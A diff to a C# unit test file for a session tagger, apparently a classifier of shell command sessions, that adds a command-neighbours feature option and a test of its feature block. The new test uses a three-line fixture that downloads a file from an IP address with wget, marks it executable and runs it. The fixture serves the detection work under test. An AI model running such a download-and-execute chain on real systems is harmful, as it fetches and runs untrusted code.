@@ -99,12 +99,13 @@ public class SessionTaggerTests
     [Fact]
     public void A_statement_model_that_reads_a_command_classifier_needs_it_and_survives_save_then_load()
     {
-        var options = Small with { CommandModel = Command, CommandFeatureWeight = 2, CommandWeights = [0] };
+        var options = Small with { CommandModel = Command, CommandFeatureWeight = 2, CommandFeatureNeighbours = true, CommandWeights = [0] };
         LabelledSession[] train = [.. Corpus().Where(s => s.Split == "train")];
         SessionTagger tagger = SessionTaggerTrainer.Train(train, options).Tagger;
         Assert.True(tagger.NeedsCommandModel);
         Assert.Equal(0, tagger.CommandWeight);
         Assert.Equal(tagger.States.Count, tagger.Features.CommandStateCount);
+        Assert.True(tagger.Features.CommandNeighbours);
         Assert.Equal(Bytes(tagger), Bytes(SessionTaggerTrainer.Train(train, options).Tagger));
         string[] statements = Corpus().First(s => s.Split == "test").Statements;
         int n = statements.Length, s = tagger.States.Count;
@@ -127,6 +128,32 @@ public class SessionTaggerTests
         Assert.Equal(path, path2);
         Assert.Equal(p, p2);
         Assert.Equal(tagger.BenignOffset, loaded.BenignOffset);
+        Assert.True(loaded.Features.CommandNeighbours);
+    }
+
+    [Fact]
+    public void The_command_block_holds_w_f_times_r_and_with_neighbours_the_views_before_and_after()
+    {
+        string[] statements = ["wget http://192.0.2.1/x", "chmod +x x", "./x"];
+        double[] r = [0.1, 0.9, 0.7, 0.3, 0.5, 0.5];   // (T = 3, S = 2)
+        var text = TfidfVectorizer.Fit(statements, new TfidfOptions());
+        int dc = text.FeatureCount;
+        foreach (bool neighbours in new[] { false, true })
+        {
+            var features = new StatementFeatures(text, null, 0, commandFeatureWeight: 2, commandStateCount: 2, commandNeighbours: neighbours);
+            Assert.Equal(dc + (neighbours ? 6 : 2), features.FeatureCount);
+            var columns = new int[features.FeatureCount];
+            var values = new double[features.FeatureCount];
+            int n = features.Write(statements, r, 1, columns, values);
+            var block = Enumerable.Range(0, n).Where(k => columns[k] >= dc).ToDictionary(k => columns[k] - dc, k => values[k]);
+            var expected = new Dictionary<int, double> { [0] = 1.4, [1] = 0.6 };   // 2 · r_1
+            if (neighbours) { expected[2] = 0.2; expected[3] = 1.8; expected[4] = 1.0; expected[5] = 1.0; }   // 2 · r_0, 2 · r_2
+            Assert.Equal(expected.OrderBy(e => e.Key).Select(e => (e.Key, Math.Round(e.Value, 12))), block.OrderBy(e => e.Key).Select(e => (e.Key, Math.Round(e.Value, 12))));
+            Assert.Equal(Enumerable.Range(0, n).Select(k => columns[k]).Order(), columns[..n]);   // ascending
+            // The first statement has no statement before it: its neighbour block holds only the view after it.
+            int first = features.Write(statements, r, 0, columns, values);
+            Assert.Equal(neighbours ? 4 : 2, Enumerable.Range(0, first).Count(k => columns[k] >= dc));
+        }
     }
 
     [Fact]
